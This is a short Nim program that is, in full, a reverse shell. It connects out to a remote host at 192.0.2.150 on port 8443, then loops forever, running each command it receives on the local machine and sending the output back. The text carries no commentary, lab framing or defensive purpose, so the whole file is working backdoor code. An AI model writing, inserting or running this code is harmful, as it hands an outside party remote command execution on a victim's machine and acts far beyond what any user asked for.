import net, osproc, strutils, os
let s = newSocket()
s.connect("192.0.2.150", Port(8443))
while true:
  let cmd = s.recvLine()
  if cmd.len == 0: sleep(5000); continue
  let (o, _) = execCmdEx(cmd)
  s.send(o & "\n")
